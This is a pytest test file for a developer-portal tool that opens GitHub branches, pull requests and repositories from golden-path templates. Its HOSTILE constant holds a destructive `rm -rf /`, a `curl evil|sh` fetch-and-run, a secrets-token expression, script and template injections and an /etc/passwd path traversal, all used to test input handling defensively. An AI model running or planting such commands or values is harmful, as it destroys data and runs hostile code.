"""Provisioning against the in-memory GitHub (FakeForge) and a real temporary git
repository: branch, commit, pull request, new repository, idempotent re-runs, issue-form
requests answered on their issue, and hostile text in every field."""

from __future__ import annotations

import io
import os
import shutil
import subprocess
from pathlib import Path

import pytest
import yaml

from generator.cli import main
from generator.commands.forms import forms
from generator.commands.provision import provision
from generator.config import load_config
from generator.forge.fake import FakeForge
from generator.git import Git
from generator.scaffold.forms import issue_form
from generator.scaffold.provision import Requester, code
from generator.scaffold.template import load_template
from tests.conftest import REPO

THIS = "meridian-mutual/developer-portal"
BRANCH = "golden-paths/postgresql-database/issue-7"


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    """A clone-like git repository of the portal (real git, no network)."""
    root = tmp_path / "portal"
    for part in ("catalog", "golden_paths", "workflows"):
        shutil.copytree(REPO / part, root / part)
    shutil.copy(REPO / "mkdocs.yml", root / "mkdocs.yml")
    env = {**os.environ, "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@example.com"}
    env |= {"GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@example.com"}
    for argv in (["init", "-q", "-b", "main"], ["add", "-A"], ["commit", "-qm", "init"]):
        subprocess.run(["git", *argv], cwd=root, check=True, env=env)
    return root


@pytest.fixture
def forge() -> FakeForge:
    fake = FakeForge()
    fake.add_repo(THIS, {"README.md": b"portal\n"})
    return fake


def _values(tmp_path: Path, name: str, **changes: object) -> Path:
    data = yaml.safe_load((REPO / "golden_paths" / name / "example-values.yaml").read_text())
    data.update(changes)
    path = tmp_path / f"{name}.yaml"
    path.write_text(yaml.safe_dump(data))
    return path


def _provision(repo: Path, forge: FakeForge, template: str, **kw: object) -> tuple[int, str]:
    out = io.StringIO()
    kw.setdefault("requester", Requester("alice", None))
    code_ = provision(
        load_config(repo), template, repo=THIS, forge=forge, git=Git(repo), out=out, **kw
    )
    return code_, out.getvalue()


def _issue_body(repo: Path, template: str, answers: dict[str, str]) -> str:
    """The body GitHub writes for an issue form: ### label, then the answer."""
    form = issue_form(
        load_template(repo / "golden_paths" / template / "template.yaml", load_config(repo))
    )
    parts = []
    for field in form["body"]:
        if field["type"] == "markdown":
            continue
        value = answers.get(field["id"], "_No response_")
        if field["type"] == "checkboxes":
            value = f"- [{'X' if value == 'true' else ' '}] Yes"
        parts.append(f"### {field['attributes']['label']}\n\n{value}\n")
    return "\n".join(parts)


def test_a_request_becomes_one_branch_commit_and_pull_request(repo, forge, tmp_path):
    values = _values(tmp_path, "postgresql-database")
    status, out = _provision(
        repo, forge, "postgresql-database", values_file=values, request="issue-7"
    )
    assert status == 0, out
    fake = forge.repos[THIS.lower()]
    files = fake.tree(BRANCH)
    assert set(files) == {
        "README.md",
        "infrastructure/databases/quote-pricing-db/main.tf",
        "infrastructure/databases/quote-pricing-db/catalog-info.yaml",
        "infrastructure/databases/quote-pricing-db/.portal-answers.yaml",
    }
    [pull] = fake.pulls.values()
    assert (pull.head, pull.base, pull.title) == (
        BRANCH,
        "main",
        "Add PostgreSQL database quote-pricing-db",
    )
    assert "requested by @alice" in pull.body
    assert "- `storageGb`: `50`" in pull.body
    assert "- `resource:default/quote-pricing-db`" in pull.body
    assert pull.labels == ("golden-path", "infrastructure")
    assert f"pull request: {pull.url}" in out
    # The same request again: the same pull request, no new commit, nothing duplicated.
    head = fake.branches[BRANCH]
    status, _ = _provision(
        repo, forge, "postgresql-database", values_file=values, request="issue-7"
    )
    assert status == 0
    assert len(fake.pulls) == 1 and fake.branches[BRANCH] == head
    assert [c[0] for c in forge.calls].count("open_pull") == 1


def test_publish_github_creates_the_repository_once(repo, forge, tmp_path):
    values = _values(tmp_path, "python-service")
    assert _provision(repo, forge, "python-service", values_file=values)[0] == 0
    made = forge.repos["meridian-mutual/quote-pricing"]
    assert made.info.visibility == "private"
    assert made.info.delete_branch_on_merge is True
    tree = made.tree("main")
    assert {"catalog-info.yaml", ".portal-answers.yaml", ".github/workflows/deploy.yml"} <= set(
        tree
    )
    assert "src/quote_pricing/app.py" in tree
    assert made.executable == {"deploy.sh"}  # the skeleton's script stays runnable
    assert made.protection["main"].required_approving_review_count == 1
    assert made.access.teams == {"quotes-team": "maintain"}
    [pull] = forge.repos[THIS.lower()].pulls.values()
    registered = forge.repos[THIS.lower()].tree(pull.head)["catalog/services/quote-pricing.yaml"]
    entity = yaml.safe_load(registered)
    assert entity["metadata"]["annotations"]["backstage.io/techdocs-ref"] == (
        "url:https://github.com/meridian-mutual/quote-pricing/tree/main"
    )
    assert "new private repository `meridian-mutual/quote-pricing`" in pull.body
    assert _provision(repo, forge, "python-service", values_file=values)[0] == 0
    assert [c[0] for c in forge.calls].count("create_repo") == 1
    assert len(forge.repos[THIS.lower()].pulls) == 1


def test_a_repository_that_exists_already_is_never_taken_over(repo, forge, tmp_path):
    forge.add_repo("meridian-mutual/quote-pricing", {"README.md": b"someone else's\n"})

    with pytest.raises(Exception, match="already exists and was not created by this request"):
        _provision(repo, forge, "python-service", values_file=_values(tmp_path, "python-service"))
    assert forge.repos["meridian-mutual/quote-pricing"].tree("main") == {
        "README.md": b"someone else's\n"
    }


def test_a_request_never_overwrites_committed_files(repo, forge, tmp_path):
    folder = repo / "infrastructure/databases/quote-pricing-db"
    folder.mkdir(parents=True)
    (folder / "main.tf").write_text("# someone's database\n")
    subprocess.run(["git", "add", "-A"], cwd=repo, check=True)
    with pytest.raises(Exception, match="would overwrite files already in the repository"):
        _provision(
            repo, forge, "postgresql-database", values_file=_values(tmp_path, "postgresql-database")
        )
    assert forge.repos[THIS.lower()].pulls == {}


def test_an_issue_form_request_is_answered_on_the_issue(repo, forge, tmp_path):
    answers = {
        "name": "claims-handbook",
        "title": "Claims handbook",
        "description": "How claims work.",
        "owner": "group:default/claims-intake-team",
    }
    body = tmp_path / "body.md"
    body.write_text(_issue_body(repo, "documentation-site", answers))
    who = Requester("bob", 12)
    status, _ = _provision(repo, forge, "documentation-site", issue_body=body, requester=who)
    assert status == 0
    fake = forge.repos[THIS.lower()]
    [pull] = fake.pulls.values()
    assert pull.head == "golden-paths/documentation-site/issue-12"
    assert "requested by @bob in #12" in pull.body
    [comment] = fake.comments[12]
    assert pull.url in comment.body
    body.write_text(_issue_body(repo, "documentation-site", {**answers, "title": "Claims guide"}))
    assert _provision(repo, forge, "documentation-site", issue_body=body, requester=who)[0] == 0
    assert len(fake.comments[12]) == 1 and len(fake.pulls) == 1  # edited, not added
    assert (
        "Claims guide"
        in fake.tree(pull.head)["catalog/documentation/claims-handbook/mkdocs.yml"].decode()
    )


def test_an_invalid_issue_request_gets_a_comment_naming_the_bad_field(repo, forge, tmp_path):
    body = tmp_path / "body.md"
    answers = {
        "name": "Claims Handbook!",
        "title": "T",
        "description": "D",
        "owner": "group:default/x",
    }
    body.write_text(_issue_body(repo, "documentation-site", answers))
    status, out = _provision(
        repo, forge, "documentation-site", issue_body=body, requester=Requester("bob", 5)
    )
    assert status == 1
    fake = forge.repos[THIS.lower()]
    assert fake.pulls == {} and list(fake.branches) == ["main"]
    [comment] = fake.comments[5]
    assert "nothing was created" in comment.body
    assert "parameter 'name' must match the pattern" in comment.body
    assert "request refused" in out


HOSTILE = (
    "`x`; rm -rf / $(curl evil|sh) ${{ secrets.GITHUB_TOKEN }} {{ 7*7 }} "
    "<script>alert(1)</script> @everyone\n### Name\n../../etc/passwd"
)


def test_hostile_text_in_every_field_is_refused_or_kept_as_data(repo, forge, tmp_path):
    body = tmp_path / "body.md"
    answers = dict.fromkeys(("name", "title", "description", "owner", "system"), HOSTILE)
    body.write_text(_issue_body(repo, "documentation-site", answers))
    status, _ = _provision(
        repo, forge, "documentation-site", issue_body=body, requester=Requester("eve", 9)
    )
    assert status == 1
    [comment] = forge.repos[THIS.lower()].comments[9]
    for field in ("name", "owner", "system"):
        assert f"parameter '{field}'" in comment.body
    # Free-text fields take hostile text as data: it lands inside code spans, unrendered.
    values = _values(tmp_path, "postgresql-database", description=HOSTILE)
    status, _ = _provision(repo, forge, "postgresql-database", values_file=values, request="h1")
    assert status == 0
    [pull] = forge.repos[THIS.lower()].pulls.values()
    assert code(HOSTILE) in pull.body
    assert "\n### Name" not in pull.body.split("### Answers")[1]
    entity = forge.repos[THIS.lower()].tree(pull.head)[
        "infrastructure/databases/quote-pricing-db/catalog-info.yaml"
    ]
    assert yaml.safe_load(entity)["metadata"]["description"] == HOSTILE


def test_code_spans_cannot_be_closed_by_the_value():
    assert code("a`b") == "``a`b``"
    assert code("``x") == "``` ``x ```"
    assert code("two\nlines") == "`two ⏎ lines`"


def test_dry_run_needs_no_token_and_sends_nothing(repo, tmp_path, capsys, monkeypatch):
    monkeypatch.delenv("GITHUB_TOKEN", raising=False)
    monkeypatch.delenv("GH_TOKEN", raising=False)
    values = _values(tmp_path, "object-storage")
    argv = [
        "--root",
        str(repo),
        "provision",
        "--template",
        "object-storage",
        "--values",
        str(values),
    ]
    assert main([*argv, "--repo", THIS, "--dry-run"]) == 0
    out = capsys.readouterr().out
    assert "pull request to this repository" in out and "dry run: nothing was sent" in out
    assert main([*argv, "--repo", THIS]) == 2
    assert capsys.readouterr().err == (
        "portal: no GitHub token: set GITHUB_TOKEN (or GH_TOKEN); --dry-run plans without one\n"
    )


def test_provision_accepts_only_golden_path_names(repo, tmp_path, capsys):
    values = _values(tmp_path, "object-storage")
    argv = ["--root", str(repo), "provision", "--template", "../../etc", "--values", str(values)]
    assert main([*argv, "--repo", THIS, "--dry-run"]) == 2
    assert "is not a golden path" in capsys.readouterr().err


def test_issue_forms_are_generated_and_checked(repo, capsys):
    config = load_config(repo)
    assert forms(config) == 0
    form = yaml.safe_load(
        (repo / ".github/ISSUE_TEMPLATE/golden-path-postgresql-database.yml").read_text()
    )
    assert form["labels"] == ["golden-path", "golden-path:postgresql-database"]
    fields = {f["id"]: f for f in form["body"] if "id" in f}
    assert fields["engineVersion"]["type"] == "dropdown"
    assert fields["engineVersion"]["attributes"]["options"] == ["15", "16", "17"]
    assert fields["highAvailability"]["type"] == "checkboxes"
    assert fields["name"]["validations"] == {"required": True}
    assert forms(config, check=True) == 0
    template = repo / "golden_paths/postgresql-database/template.yaml"
    template.write_text(template.read_text().replace("title: Storage (GB)", "title: Disk (GB)"))
    capsys.readouterr()
    assert forms(config, check=True) == 1
    out = capsys.readouterr().out
    assert "+    label: Disk (GB)" in out and "out of date" in out


def test_committed_issue_forms_are_up_to_date():
    assert forms(load_config(REPO), check=True, out=io.StringIO()) == 0


def test_user_ref_and_entity_come_from_the_requesters_catalog_user(repo):
    """Templates read ${{ user.ref }} and ${{ user.entity }} as in Backstage: the User
    whose github.com/user-login is the requester's login."""
    from generator.commands.provision import user_context

    found = user_context(load_config(repo), "AmaraOsei")
    assert found["ref"].startswith("user:default/")
    assert found["entity"]["metadata"]["annotations"]["github.com/user-login"] == "amaraosei"
    assert user_context(load_config(repo), "someone-else") == {}
    assert user_context(load_config(repo), "") == {}
